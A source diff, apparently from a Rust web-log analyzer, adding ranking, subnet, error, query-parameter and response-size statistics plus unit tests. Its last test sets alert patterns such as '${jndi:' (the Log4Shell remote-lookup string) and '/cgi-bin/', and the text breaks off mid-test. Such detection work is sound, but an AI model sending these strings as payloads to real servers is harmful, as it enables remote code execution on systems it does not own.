+        for (url, entry) in self.by_url.iter_mut() {
+            if let Some(count) = entry.clients.remove(ip) {
+                entry.count = entry.count.saturating_sub(count);
+                if let Some(urls) = self.by_domain.get_mut(&entry.request_domain).map(|stats| &mut stats.urls) {
+                    if let Some(url_count) = urls.get_mut(url) {
+                        *url_count = url_count.saturating_sub(count);
+                    }
+                    urls.retain(|_, count| *count > 0);
+                }
+            }
+        }
+        self.by_url.retain(|_, entry| entry.count > 0);
+        for stats in self.by_method.values_mut() {
+            if let Some(count) = stats.clients.remove(ip) {
+                stats.count = stats.count.saturating_sub(count);
+            }
+        }
+        self.by_method.retain(|_, stats| stats.count > 0);
+        for stats in self.large_requests.values_mut() {
+            if let Some(count) = stats.clients.remove(ip) {
+                stats.count = stats.count.saturating_sub(count);
+            }
+        }
+        self.large_requests.retain(|_, stats| stats.count > 0);
+        for referers in [&mut self.by_referer, &mut self.look_alike_referers, &mut self.empty_referers] {
+            for stats in referers.values_mut() {
+                if let Some(count) = stats.clients.remove(ip) {
+                    stats.count = stats.count.saturating_sub(count);
+                }
+            }
+            referers.retain(|_, stats| stats.count > 0);
+        }
+        for stats in self.auth_failures.values_mut() {
+            if let Some(count) = stats.clients.remove(ip) {
+                stats.count = stats.count.saturating_sub(count);
+            }
+            stats.times.remove(ip);
+        }
+        self.auth_failures.retain(|_, stats| stats.count > 0);
+        for stats in self.by_domain.values_mut() {
+            if let Some(count) = stats.ips.remove(ip) {
+                stats.count = stats.count.saturating_sub(count);
+            }
+        }
+        self.by_domain.retain(|_, stats| stats.count > 0);
+        self.recent_requests.retain(|request| request.ip != ip);
+
+        if let Some((_, buckets)) = self.interval_stats.as_mut() {
+            for stats in buckets.values_mut() {
+                stats.ips.remove(ip);
+            }
+        }
+        true
+    }
+
+    /// With `--approx-unique`, a URL not yet indexed once the index holds `MAX_INDEXED_ENTRIES`.
+    fn url_index_full(&self, url: &str) -> bool {
+        self.unique_sketches.is_some() && self.by_url.len() >= MAX_INDEXED_ENTRIES && !self.by_url.contains_key(url)
     }
 
     fn clear_outdated_entries(&mut self) {
@@ -112,28 +921,383 @@ impl LogData {
         // self.requests_per_interval.retain(|&k, _| k >= threshold);
     }
 
-    pub(crate) fn get_top_n(&self, n: usize) -> (Vec<(String, &LogEntry)>, Vec<(String, &LogEntry)>) {
+    pub(crate) fn get_top_n(&self, limits: TopLimits) -> (TopEntries<'_>, TopEntries<'_>) {
         let mut top_ip = self.by_ip.iter().collect::<Vec<_>>();
         let mut top_url = self.by_url.iter().collect::<Vec<_>>();
 
-        top_ip.sort_by(|a, b| b.1.count.cmp(&a.1.count));
-        top_url.sort_by(|a, b| b.1.count.cmp(&a.1.count));
+        top_ip.sort_by_key(|b| std::cmp::Reverse(b.1.count));
+        top_url.sort_by_key(|b| std::cmp::Reverse(b.1.count));
 
         (
-            top_ip.into_iter().take(n).map(|(k, v)| (k.clone(), v)).collect(),
-            top_url.into_iter().take(n).map(|(k, v)| (k.clone(), v)).collect(),
+            top_ip.into_iter().take(limits.ips).map(|(k, v)| (k.clone(), v)).collect(),
+            top_url.into_iter().take(limits.urls).map(|(k, v)| (k.clone(), v)).collect(),
         )
     }
 
+    /// Top entries counting only hits inside `range` (inclusive log timestamps); `None` means all time.
+    pub(crate) fn get_top_n_in_range<'a>(&'a self, limits: TopLimits, range: Option<(i64, i64)>) -> (RangedEntries<'a>, RangedEntries<'a>) {
+        let rank = |map: &'a HashMap<String, LogEntry>, n: usize| -> RangedEntries<'a> {
+            let mut ranked: RangedEntries = map.iter()
+                .map(|(key, entry)| (key.clone(), entry.visible_count(range, self.exclude_bots), entry))
+                .filter(|(_, count, _)| *count > 0)
+                .collect();
+            ranked.sort_by_key(|b| std::cmp::Reverse(b.1));
+            ranked.truncate(n);
+            ranked
+        };
+        (rank(&self.by_ip, limits.ips), rank(&self.by_url, limits.urls))
+    }
+
+    /// Whether the regex captures request sizes (`req_size` group).
+    pub(crate) fn has_request_sizes(&self) -> bool {
+        self.has_request_sizes
+    }
+
+    pub(crate) fn get_latest_timestamp(&self) -> Option<i64> {
+        self.requests_per_interval.keys().max().copied()
+    }
+
+    /// First and last log timestamps seen, a quick check that `--date-format` parsed the dates.
+    pub(crate) fn get_time_span(&self) -> Option<(i64, i64)> {
+        let first = *self.requests_per_interval.keys().min()?;
+        let last = *self.requests_per_interval.keys().max()?;
+        Some((first, last))
+    }
+
+    /// Tracked buckets in chronological order, keyed by their start timestamp.
+    pub(crate) fn get_interval_stats(&self) -> Vec<(i64, &IntervalStats)> {
+        self.interval_stats.iter().flat_map(|(_, buckets)| buckets.iter().map(|(&start, stats)| (start, stats))).collect()
+    }
+
+    /// Domains (virtual hosts) with their request counts, busiest first.
+    pub(crate) fn get_domains(&self) -> Vec<(String, usize)> {
+        let mut domains: Vec<(String, usize)> = self.by_domain.iter().map(|(domain, stats)| (domain.clone(), stats.count)).collect();
+        domains.sort_by(|a, b| b.1.cmp(&a.1).then_with(|| a.0.cmp(&b.0)));
+        domains
+    }
+
+    /// Top IPs and URLs of a single domain.
+    pub(crate) fn get_top_n_for_domain(&self, domain: &str, limits: TopLimits) -> (RankedCounts, RankedCounts) {
+        let rank = |counts: &HashMap<String, usize>, n: usize| {
+            let mut ranked: RankedCounts = counts.iter().map(|(key, &count)| (key.clone(), count)).collect();
+            ranked.sort_by(|a, b| b.1.cmp(&a.1).then_with(|| a.0.cmp(&b.0)));
+            ranked.truncate(n);
+            ranked
+        };
+        match self.by_domain.get(domain) {
+            Some(stats) => (rank(&stats.ips, limits.ips), rank(&stats.urls, limits.urls)),
+            None => (Vec::new(), Vec::new()),
+        }
+    }
+
+    /// Top `n` values of one dimension with their request counts, busiest first.
+    pub(crate) fn get_top_n_by(&self, group_by: GroupBy, n: usize) -> RankedCounts {
+        let mut ranked: RankedCounts = match group_by {
+            GroupBy::Ip => self.by_ip.iter().map(|(ip, entry)| (ip.clone(), entry.count)).collect(),
+            GroupBy::Url => self.by_url.iter().map(|(url, entry)| (url.clone(), entry.count)).collect(),
+            GroupBy::Status => self.by_status.iter().map(|(status, &count)| (status.to_string(), count)).collect(),
+            GroupBy::UserAgent => self.by_user_agent.iter().map(|(user_agent, &count)| (user_agent.clone(), count)).collect(),
+            GroupBy::Domain => self.by_domain.iter().map(|(domain, stats)| (domain.clone(), stats.count)).collect(),
+            GroupBy::Category => self.by_category.iter().map(|(category, &count)| (category.clone(), count)).collect(),
+        };
+        ranked.sort_by(|a, b| b.1.cmp(&a.1).then_with(|| a.0.cmp(&b.0)));
+        ranked.truncate(n);
+        ranked
+    }
+
+    /// The `n` IPs that received the most response bytes, with their request count and byte total.
+    pub(crate) fn get_top_talkers(&self, n: usize) -> Vec<(String, usize, u64)> {
+        let mut talkers: Vec<(String, usize, u64)> = self.by_ip.iter()
+            .filter(|(_, entry)| entry.total_bytes > 0)
+            .map(|(ip, entry)| (ip.clone(), entry.count, entry.total_bytes))
+            .collect();
+        talkers.sort_by(|a, b| b.2.cmp(&a.2).then_with(|| a.0.cmp(&b.0)));
+        talkers.truncate(n);
+        talkers
+    }
+
+    /// IPs first seen within the last `window` seconds of the log, busiest first, with their
+    /// request count and rate in requests per minute since they appeared (at least over a minute).
+    pub(crate) fn get_new_ips(&self, window: i64, n: usize) -> Vec<(String, usize, f64)> {
+        let Some(latest) = self.get_latest_timestamp() else { return Vec::new() };
+        let mut new_ips: Vec<(String, usize, f64)> = self.by_ip.iter()
+            .filter(|(_, entry)| entry.first_seen > latest - window)
+            .map(|(ip, entry)| (ip.clone(), entry.count, entry.count as f64 * 60.0 / (latest - entry.first_seen).max(60) as f64))
+            .collect();
+        new_ips.sort_by(|a, b| b.1.cmp(&a.1).then_with(|| a.0.cmp(&b.0)));
+        new_ips.truncate(n);
+        new_ips
+    }
+
+    /// The `n` networks with the most requests, IPv4 addresses grouped by `prefix` bits and IPv6
+    /// addresses by /64, with their request count and number of distinct IPs.
+    pub(crate) fn get_top_subnets(&self, prefix: u8, n: usize) -> Vec<(String, usize, usize)> {
+        let mut subnets: HashMap<String, (usize, usize)> = HashMap::new();
+        for (ip, entry) in &self.by_ip {
+            if let Some(subnet) = subnet_of(ip, prefix) {
+                let stats = subnets.entry(subnet).or_insert((0, 0));
+                stats.0 += entry.count;
+                stats.1 += 1;
+            }
+        }
+        let mut ranked: Vec<(String, usize, usize)> = subnets.into_iter().map(|(subnet, (requests, ips))| (subnet, requests, ips)).collect();
+        ranked.sort_by(|a, b| b.1.cmp(&a.1).then_with(|| a.0.cmp(&b.0)));
+        ranked.truncate(n);
+        ranked
+    }
+
+    /// The `n` most frequent 4xx and 5xx status codes with their request counts.
+    pub(crate) fn get_top_error_statuses(&self, n: usize) -> Vec<(u16, usize)> {
+        let mut ranked: Vec<(u16, usize)> = self.by_status.iter().filter(|(&status, _)| status >= 400).map(|(&status, &count)| (status, count)).collect();
+        ranked.sort_by(|a, b| b.1.cmp(&a.1).then_with(|| a.0.cmp(&b.0)));
+        ranked.truncate(n);
+        ranked
+    }
+
+    /// The `n` URLs with the most 4xx and 5xx responses.
+    pub(crate) fn get_top_error_urls(&self, n: usize) -> RankedCounts {
+        let mut ranked: RankedCounts = self.by_url.iter().filter(|(_, entry)| entry.error_count > 0).map(|(url, entry)| (url.clone(), entry.error_count)).collect();
+        ranked.sort_by(|a, b| b.1.cmp(&a.1).then_with(|| a.0.cmp(&b.0)));
+        ranked.truncate(n);
+        ranked
+    }
+
+    /// Requests per status class, index 0 for 1xx up to index 4 for 5xx.
+    pub(crate) fn get_status_classes(&self) -> [usize; 5] {
+        let mut classes = [0; 5];
+        for (&status, &count) in &self.by_status {
+            if let Some(class) = classes.get_mut((status / 100).wrapping_sub(1) as usize) {
+                *class += count;
+            }
+        }
+        classes
+    }
+
+    /// Responses of status class `class` (5 for 5xx) in each of the last `minutes` minutes up to the
+    /// newest one with a status, oldest first; minutes without any are 0.
+    pub(crate) fn get_status_class_per_minute(&self, class: u16, minutes: usize) -> Vec<u64> {
+        let (Some(&latest), Some(index)) = (self.status_class_minutes.keys().next_back(), (class as usize).checked_sub(1).filter(|&index| index < 5)) else {
+            return Vec::new();
+        };
+        let first = latest - minutes as i64 + 1;
+        (first..=latest).map(|minute| self.status_class_minutes.get(&minute).map_or(0, |counts| counts[index] as u64)).collect()
+    }
+
     pub(crate) fn get_unique_counts(&self) -> (usize, usize) {
         (self.by_ip.len(), self.by_url.len())
     }
 
+    /// Estimated unique IPs and URLs over the whole log, when `--approx-unique` is on.
+    pub(crate) fn get_unique_estimates(&self) -> Option<(usize, usize)> {
+        self.unique_sketches.as_ref().map(|(ips, urls)| (ips.estimate(), urls.estimate()))
+    }
+
+    /// Average requests per unique IP and per unique URL.
+    pub(crate) fn get_request_ratios(&self) -> (f64, f64) {
+        let ratio = |unique: usize| safe_ratio(self.total_requests as f64, unique as f64);
+        let (unique_ips, unique_urls) = self.get_unique_estimates().unwrap_or_else(|| self.get_unique_counts());
+        (ratio(unique_ips), ratio(unique_urls))
+    }
+
+    /// The most recent requests, newest log timestamp first (arrival order breaks ties).
+    pub(crate) fn get_recent_requests(&self) -> Vec<&RecentRequest> {
+        let mut requests: Vec<&RecentRequest> = self.recent_requests.iter().collect();
+        requests.sort_by(|a, b| b.timestamp.cmp(&a.timestamp).then(b.seq.cmp(&a.seq)));
+        requests
+    }
+
+    pub(crate) fn urls(&self) -> impl Iterator<Item = (&String, &LogEntry)> {
+        self.by_url.iter()
+    }
+
+    /// URLs for the traffic views. Samples are kept per URL rather than per request,
+    /// so hiding bots leaves out the URLs that were mostly requested by bots.
+    pub(crate) fn visible_urls(&self) -> impl Iterator<Item = (&String, &LogEntry)> {
+        self.by_url.iter().filter(move |(_, entry)| !self.exclude_bots || !entry.is_mostly_bot())
+    }
+
     pub(crate) fn get_last_requests(&self, ip: &str) -> Vec<String> {
         self.by_ip.get(ip).map_or(Vec::new(), |entry| entry.last_requests.clone())
     }
+
+    pub(crate) fn get_last_statuses(&self, ip: &str) -> Vec<Option<u16>> {
+        self.by_ip.get(ip).map_or(Vec::new(), |entry| entry.last_statuses.clone())
+    }
+
+    /// Methods sent by `ip` with their request count and share of its requests, most used first.
+    pub(crate) fn get_method_profile(&self, ip: &str) -> Vec<(String, usize, f64)> {
+        let Some(entry) = self.by_ip.get(ip) else {
+            return Vec::new();
+        };
+        let total: usize = entry.methods.values().sum();
+        let mut profile: Vec<(String, usize, f64)> = entry.methods.iter()
+            .map(|(method, &count)| (method.clone(), count, safe_ratio(count as f64, total as f64)))
+            .collect();
+        profile.sort_by(|a, b| b.1.cmp(&a.1).then_with(|| a.0.cmp(&b.0)));
+        profile
+    }
+
+    /// Distribution of the sampled response sizes over `SIZE_BUCKETS`.
+    pub(crate) fn get_response_size_histogram(&self) -> [usize; SIZE_BUCKETS.len()] {
+        bucket_response_sizes(self.visible_urls().flat_map(|(_, entry)| entry.response_sizes.iter().copied()))
+    }
+
+    /// URLs ranked by their largest sampled response size, biggest first.
+    pub(crate) fn get_largest_responses(&self, limit: usize) -> Vec<(String, u64)> {
+        let mut largest: Vec<(String, u64)> = self.visible_urls()
+            .filter_map(|(url, entry)| entry.response_sizes.iter().max().map(|&size| (url.clone(), size)))
+            .collect();
+        largest.sort_by(|a, b| b.1.cmp(&a.1).then_with(|| a.0.cmp(&b.0)));
+        largest.truncate(limit);
+        largest
+    }
+
+    /// URLs with a sampled response of at least `threshold` bytes (`--large-response-threshold`).
+    pub(crate) fn count_large_responses(&self, threshold: u64) -> usize {
+        self.visible_urls().filter(|(_, entry)| entry.response_sizes.iter().any(|&size| size >= threshold)).count()
+    }
+
+    /// The indexed entry of an IP or a URL; other dimensions have no entries.
+    pub(crate) fn get_entry(&self, group_by: GroupBy, key: &str) -> Option<&LogEntry> {
+        match group_by {
+            GroupBy::Ip => self.by_ip.get(key),
+            GroupBy::Url => self.by_url.get(key),
+            _ => None,
+        }
+    }
+
+    /// Most used query parameter keys of a URL, each with its top `n` values.
+    pub(crate) fn get_query_params(&self, url: &str, n: usize) -> Vec<QueryParamStats> {
+        let entry = match self.by_url.get(url) {
+            Some(entry) => entry,
+            None => return Vec::new(),
+        };
+
+        let mut params: Vec<QueryParamStats> = entry.query_params.iter().map(|(key, param)| {
+            let mut top_values: Vec<(String, usize)> = param.values.iter().map(|(v, &c)| (v.clone(), c)).collect();
+            top_values.sort_by_key(|b| std::cmp::Reverse(b.1));
+            top_values.truncate(n);
+            (key.clone(), param.count, top_values)
+        }).collect();
+        params.sort_by_key(|b| std::cmp::Reverse(b.1));
+        params.truncate(n);
+        params
+    }
+
+    /// Average and maximum of the sampled response times, `None` when the log has no timing field.
+    pub(crate) fn get_response_time_stats(&self) -> Option<(f64, f64)> {
+        let times: Vec<f64> = self.visible_urls().flat_map(|(_, entry)| entry.response_times.iter().copied()).collect();
+        if times.is_empty() {
+            return None;
+        }
+        let average = safe_ratio(times.iter().sum::<f64>(), times.len() as f64);
+        let max = times.iter().copied().fold(f64::MIN, f64::max);
+        Some((average, max))
+    }
+
+    /// Average requests per second over the last `window` seconds of log time.
+    pub(crate) fn get_requests_per_second(&self, window: i64) -> f64 {
+        let latest = match self.requests_per_interval.keys().max() {
+            Some(&latest) => latest,
+            None => return 0.0,
+        };
+        let total: usize = self.requests_per_interval
+            .iter()
+            .filter(|(&timestamp, _)| timestamp > latest - window)
+            .map(|(_, &count)| count)
+            .sum();
+        safe_ratio(total as f64, window as f64)
+    }
+}
+
+/// Appends a sample, dropping the oldest ones beyond `cap`.
+fn push_sample<T>(samples: &mut VecDeque<T>, value: T, cap: usize) {
+    samples.push_back(value);
+    while samples.len() > cap {
+        samples.pop_front();
+    }
+}
+
+/// Counts a request of `method` from `ip`, with at most `MAX_METHODS` methods and `MAX_CLIENTS` IPs each.
+fn update_method_stats(by_method: &mut HashMap<String, MethodStats>, method: &str, ip: &str) {
+    if !by_method.contains_key(method) && by_method.len() >= MAX_METHODS {
+        return;
+    }
+    let stats = by_method.entry(method.to_string()).or_default();
+    stats.count += 1;
+    if let Some(count) = stats.clients.get_mut(ip) {
+        *count += 1;
+    } else if stats.clients.len() < MAX_CLIENTS {
+        stats.clients.insert(ip.to_string(), 1);
+    }
+}
+
+fn update_referer_stats(referers: &mut HashMap<String, RefererStats>, key: &str, ip: &str) {
+    if !referers.contains_key(key) && referers.len() >= MAX_REFERERS {
+        return;
+    }
+    let stats = referers.entry(key.to_string()).or_default();
+    stats.count += 1;
+    if let Some(count) = stats.clients.get_mut(ip) {
+        *count += 1;
+    } else if stats.clients.len() < MAX_CLIENTS {
+        stats.clients.insert(ip.to_string(), 1);
+    }
+}
+
+/// A referer host embedding the requested host without being it or one of its subdomains, e.g.
+/// `example.com.offers.ru` on `example.com`, which passes naive same-site checks.
+fn is_look_alike_host(host: &str, domain: &str) -> bool {
+    let domain = domain.to_ascii_lowercase();
+    domain.contains('.') && host != domain && !host.ends_with(&format!(".{}", domain)) && host.contains(&domain)
+}
+
+/// Stylesheets, scripts, images and fonts, which browsers only load from a page and with its referer.
+fn is_page_asset(url: &str) -> bool {
+    let path = url.split(['?', '#']).next().unwrap_or(url).to_ascii_lowercase();
+    PAGE_ASSET_EXTENSIONS.iter().any(|extension| path.ends_with(extension))
+}
+
+/// Counts a hit for `key`, tracking at most `MAX_CLIENTS` keys.
+fn count_capped(counts: &mut HashMap<String, usize>, key: &str) {
+    if let Some(count) = counts.get_mut(key) {
+        *count += 1;
+    } else if counts.len() < MAX_CLIENTS {
+        counts.insert(key.to_string(), 1);
+    }
+}
+
+pub(crate) fn parse_query(query: &str) -> Vec<(String, String)> {
+    query
+        .trim_start_matches('?')
+        .split('&')
+        .filter(|pair| !pair.is_empty())
+        .map(|pair| match pair.split_once('=') {
+            Some((key, value)) => (key.to_string(), value.to_string()),
+            None => (pair.to_string(), String::new()),
+        })
+        .collect()
+}
+
+pub(crate) fn bucket_response_sizes(sizes: impl Iterator<Item = u64>) -> [usize; SIZE_BUCKETS.len()] {
+    let mut buckets = [0; SIZE_BUCKETS.len()];
+    for size in sizes {
+        let index = SIZE_BUCKETS.iter().position(|&(_, limit)| size < limit).unwrap_or(SIZE_BUCKETS.len() - 1);
+        buckets[index] += 1;
+    }
+    buckets
 }
 
+/// Prefix length of the networks IPv6 clients are grouped into.
+const IPV6_SUBNET_PREFIX: u8 = 64;
+
+/// Network of `ip` in CIDR notation, e.g. `203.0.113.0/24`; `None` for anything that is not an IP.
+pub fn subnet_of(ip: &str, prefix: u8) -> Option<String> {
+    match ip.parse::<IpAddr>().ok()? {
+        IpAddr::V4(addr) => Some(Ipv4Net::new(addr, prefix).ok()?.trunc().to_string()),
+        IpAddr::V6(addr) => Some(Ipv6Net::new(addr, IPV6_SUBNET_PREFIX).ok()?.trunc().to_string()),
+    }
+}
 
 #[cfg(test)]
 mod tests {
@@ -151,11 +1315,11 @@ mod tests {
         let log_line2 = "GET /page2 HTTP/1.1".to_string();
         let timestamp = SystemTime::now().duration_since(UNIX_EPOCH).unwrap().as_secs() as i64;
 
-        log_data.add_entry(ip1.clone(), url1.clone(), log_line1.clone(), timestamp, "GET".to_string(), "example.com".to_string(), false);
-        log_data.add_entry(ip1.clone(), url1.clone(), log_line1.clone(), timestamp, "GET".to_string(), "example.com".to_string(), false);
-        log_data.add_entry(ip2.clone(), url2.clone(), log_line2.clone(), timestamp, "GET".to_string(), "example.com".to_string(), false);
+        log_data.add_entry(ip1.clone(), url1.clone(), log_line1.clone(), timestamp, "GET".to_string(), "example.com".to_string(), RequestDetails::default(), false);
+        log_data.add_entry(ip1.clone(), url1.clone(), log_line1.clone(), timestamp, "GET".to_string(), "example.com".to_string(), RequestDetails::default(), false);
+        log_data.add_entry(ip2.clone(), url2.clone(), log_line2.clone(), timestamp, "GET".to_string(), "example.com".to_string(), RequestDetails::default(), false);
 
-        let (top_ips, top_urls) = log_data.get_top_n(2);
+        let (top_ips, top_urls) = log_data.get_top_n(TopLimits::uniform(2));
 
         assert_eq!(top_ips.len(), 2);
         assert_eq!(top_urls.len(), 2);
@@ -181,8 +1345,8 @@ mod tests {
         let log_line = "GET /page1 HTTP/1.1".to_string();
         let timestamp = SystemTime::now().duration_since(UNIX_EPOCH).unwrap().as_secs() as i64;
 
-        log_data.add_entry(ip.clone(), url.clone(), log_line.clone(), timestamp, "GET".to_string(), "example.com".to_string(), false);
-        log_data.add_entry(ip.clone(), url.clone(), log_line.clone(), timestamp, "GET".to_string(), "example.com".to_string(), false);
+        log_data.add_entry(ip.clone(), url.clone(), log_line.clone(), timestamp, "GET".to_string(), "example.com".to_string(), RequestDetails::default(), false);
+        log_data.add_entry(ip.clone(), url.clone(), log_line.clone(), timestamp, "GET".to_string(), "example.com".to_string(), RequestDetails::default(), false);
 
         let (unique_ips, unique_urls) = log_data.get_unique_counts();
 
@@ -199,8 +1363,8 @@ mod tests {
         let log_line2 = "POST /page1 HTTP/1.1".to_string();
         let timestamp = SystemTime::now().duration_since(UNIX_EPOCH).unwrap().as_secs() as i64;
 
-        log_data.add_entry(ip.clone(), url.clone(), log_line1.clone(), timestamp, "GET".to_string(), "example.com".to_string(), false);
-        log_data.add_entry(ip.clone(), url.clone(), log_line2.clone(), timestamp, "POST".to_string(), "example.com".to_string(), false);
+        log_data.add_entry(ip.clone(), url.clone(), log_line1.clone(), timestamp, "GET".to_string(), "example.com".to_string(), RequestDetails::default(), false);
+        log_data.add_entry(ip.clone(), url.clone(), log_line2.clone(), timestamp, "POST".to_string(), "example.com".to_string(), RequestDetails::default(), false);
 
         let last_requests = log_data.get_last_requests(&ip);
 
@@ -224,15 +1388,47 @@ mod tests {
             count: 1,
             last_update: old_time,
             last_requests: vec![log_line.clone()],
+            last_statuses: vec![None],
             request_type: "GET".to_string(),
             request_domain: "example.com".to_string(),
+            response_sizes: VecDeque::new(),
+            response_times: VecDeque::new(),
+            statuses: Vec::new(),
+            error_count: 0,
+            total_bytes: 0,
+            first_seen: 0,
+            last_seen: 0,
+            query_params: HashMap::new(),
+            distinct_queries: HashSet::new(),
+            clients: HashMap::new(),
+            minute_counts: BTreeMap::new(),
+            bot_count: 0,
+            bot_minute_counts: BTreeMap::new(),
+            repeated_lines: HashMap::new(),
+            methods: HashMap::new(),
         });
         log_data.by_url.insert(url.clone(), LogEntry {
             count: 1,
             last_update: old_time,
             last_requests: vec![log_line.clone()],
+            last_statuses: vec![None],
             request_type: "GET".to_string(),
             request_domain: "example.com".to_string(),
+            response_sizes: VecDeque::new(),
+            response_times: VecDeque::new(),
+            statuses: Vec::new(),
+            error_count: 0,
+            total_bytes: 0,
+            first_seen: 0,
+            last_seen: 0,
+            query_params: HashMap::new(),
+            distinct_queries: HashSet::new(),
+            clients: HashMap::new(),
+            minute_counts: BTreeMap::new(),
+            bot_count: 0,
+            bot_minute_counts: BTreeMap::new(),
+            repeated_lines: HashMap::new(),
+            methods: HashMap::new(),
         });
 
         // Clear outdated entries
@@ -247,15 +1443,47 @@ mod tests {
             count: 1,
             last_update: new_time,
             last_requests: vec![log_line.clone()],
+            last_statuses: vec![None],
             request_type: "GET".to_string(),
             request_domain: "example.com".to_string(),
+            response_sizes: VecDeque::new(),
+            response_times: VecDeque::new(),
+            statuses: Vec::new(),
+            error_count: 0,
+            total_bytes: 0,
+            first_seen: 0,
+            last_seen: 0,
+            query_params: HashMap::new(),
+            distinct_queries: HashSet::new(),
+            clients: HashMap::new(),
+            minute_counts: BTreeMap::new(),
+            bot_count: 0,
+            bot_minute_counts: BTreeMap::new(),
+            repeated_lines: HashMap::new(),
+            methods: HashMap::new(),
         });
         log_data.by_url.insert(url.clone(), LogEntry {
             count: 1,
             last_update: new_time,
             last_requests: vec![log_line],
+            last_statuses: vec![None],
             request_type: "GET".to_string(),
             request_domain: "example.com".to_string(),
+            response_sizes: VecDeque::new(),
+            response_times: VecDeque::new(),
+            statuses: Vec::new(),
+            error_count: 0,
+            total_bytes: 0,
+            first_seen: 0,
+            last_seen: 0,
+            query_params: HashMap::new(),
+            distinct_queries: HashSet::new(),
+            clients: HashMap::new(),
+            minute_counts: BTreeMap::new(),
+            bot_count: 0,
+            bot_minute_counts: BTreeMap::new(),
+            repeated_lines: HashMap::new(),
+            methods: HashMap::new(),
         });
 
         // Clear outdated entries again
@@ -266,6 +1494,494 @@ mod tests {
         assert_eq!(log_data.by_url.len(), 1);
     }
 
+    #[test]
+    fn test_bucket_response_sizes() {
+        let buckets = bucket_response_sizes([0, 1023, 1024, 10 * 1024 - 1, 50_000, 102_400, 5_000_000].into_iter());
+
+        assert_eq!(buckets, [2, 2, 1, 2]);
+    }
+
+    #[test]
+    fn test_response_size_histogram_uses_samples() {
+        let mut log_data = LogData::new();
+        for size in [100, 2048, 4096] {
+            let details = RequestDetails { response_size: Some(size), ..Default::default() };
+            log_data.add_entry("192.168.0.1".to_string(), "/file".to_string(), String::new(), 0, "GET".to_string(), "example.com".to_string(), details, false);
+        }
+        log_data.add_entry("192.168.0.1".to_string(), "/file".to_string(), String::new(), 0, "GET".to_string(), "example.com".to_string(), RequestDetails::default(), false);
+
+        assert_eq!(log_data.get_response_size_histogram(), [1, 2, 0, 0]);
+    }
+
+    #[test]
+    fn test_get_largest_responses() {
+        let mut log_data = LogData::new();
+        for (url, size) in [("/small", 512), ("/backup.tar", 80_000_000), ("/video", 5_000_000), ("/video", 9_000_000), ("/small", 100)] {
+            let details = RequestDetails { response_size: Some(size), ..Default::default() };
+            log_data.add_entry("192.168.0.1".to_string(), url.to_string(), String::new(), 0, "GET".to_string(), "example.com".to_string(), details, false);
+        }
+        log_data.add_entry("192.168.0.1".to_string(), "/unsized".to_string(), String::new(), 0, "GET".to_string(), "example.com".to_string(), RequestDetails::default(), false);
+
+        assert_eq!(log_data.get_largest_responses(10), vec![
+            ("/backup.tar".to_string(), 80_000_000),
+            ("/video".to_string(), 9_000_000),
+            ("/small".to_string(), 512),
+        ]);
+        assert_eq!(log_data.get_largest_responses(1).len(), 1);
+        assert_eq!(log_data.count_large_responses(1_000_000), 2);
+    }
+
+    #[test]
+    fn test_response_time_stats_none_without_timings() {
+        let mut log_data = LogData::new();
+        log_data.add_entry("192.168.0.1".to_string(), "/".to_string(), String::new(), 0, "GET".to_string(), "example.com".to_string(), RequestDetails::default(), false);
+
+        assert!(log_data.by_url["/"].response_times.is_empty());
+        assert_eq!(log_data.get_response_time_stats(), None);
+
+        let details = RequestDetails { response_time: Some(0.5), ..Default::default() };
+        log_data.add_entry("192.168.0.1".to_string(), "/".to_string(), String::new(), 0, "GET".to_string(), "example.com".to_string(), details, false);
+
+        assert_eq!(log_data.get_response_time_stats(), Some((0.5, 0.5)));
+    }
+
+    #[test]
+    fn test_parse_query() {
+        assert_eq!(parse_query("?q=shoes&page=2&debug"), vec![
+            ("q".to_string(), "shoes".to_string()),
+            ("page".to_string(), "2".to_string()),
+            ("debug".to_string(), String::new()),
+        ]);
+        assert!(parse_query("").is_empty());
+    }
+
+    #[test]
+    fn test_get_query_params() {
+        let mut log_data = LogData::new();
+        for query in ["q=shoes&page=1", "q=shoes&page=2", "q=hats"] {
+            let details = RequestDetails { query: Some(query.to_string()), ..Default::default() };
+            log_data.add_entry("192.168.0.1".to_string(), "/search".to_string(), String::new(), 0, "GET".to_string(), "example.com".to_string(), details, false);
+        }
+
+        let params = log_data.get_query_params("/search", 5);
+
+        assert_eq!(params[0].0, "q");
+        assert_eq!(params[0].1, 3);
+        assert_eq!(params[0].2[0], ("shoes".to_string(), 2));
+        assert_eq!(params[1].0, "page");
+        assert_eq!(params[1].1, 2);
+        assert!(log_data.get_query_params("/missing", 5).is_empty());
+    }
+
+    #[test]
+    fn test_query_params_cardinality_is_capped() {
+        let mut log_data = LogData::new();
+        for i in 0..(MAX_QUERY_VALUES + 10) {
+            let details = RequestDetails { query: Some(format!("id={}", i)), ..Default::default() };
+            log_data.add_entry("192.168.0.1".to_string(), "/item".to_string(), String::new(), 0, "GET".to_string(), "example.com".to_string(), details, false);
+        }
+
+        assert_eq!(log_data.by_url["/item"].query_params["id"].values.len(), MAX_QUERY_VALUES);
+        assert_eq!(log_data.get_query_params("/item", 5)[0].1, MAX_QUERY_VALUES + 10);
+    }
+
+    #[test]
+    fn test_get_request_ratios() {
+        let mut log_data = LogData::new();
+        assert_eq!(log_data.get_request_ratios(), (0.0, 0.0));
+
+        for (ip, url) in [("10.0.0.1", "/a"), ("10.0.0.1", "/b"), ("10.0.0.1", "/c"), ("10.0.0.2", "/a")] {
+            log_data.add_entry(ip.to_string(), url.to_string(), String::new(), 0, "GET".to_string(), "example.com".to_string(), RequestDetails::default(), false);
+        }
+
+        let (per_ip, per_url) = log_data.get_request_ratios();
+        assert_eq!(per_ip, 2.0);
+        assert!((per_url - 4.0 / 3.0).abs() < f64::EPSILON);
+    }
+
+    #[test]
+    fn test_samples_per_entity() {
+        let mut log_data = LogData::new();
+        log_data.set_samples_per_entity(3);
+        for size in 1..=5 {
+            let details = RequestDetails { response_size: Some(size), response_time: Some(size as f64 / 10.0), ..RequestDetails::default() };
+            log_data.add_entry("10.0.0.1".to_string(), "/".to_string(), String::new(), 0, "GET".to_string(), "example.com".to_string(), details, false);
+        }
+
+        let entry = &log_data.by_url["/"];
+        assert_eq!(entry.response_sizes, [3, 4, 5]);
+        assert_eq!(entry.response_times, [0.3, 0.4, 0.5]);
+        assert_eq!(log_data.by_ip["10.0.0.1"].response_sizes, [3, 4, 5]);
+        assert_eq!(entry.total_bytes, 15);
+    }
+
+    #[test]
+    fn test_alert_patterns() {
+        let mut log_data = LogData::new();
+        log_data.set_alert_patterns(&["${jndi:".to_string(), "/cgi-bin/".to_string()]);
+        let lines = [
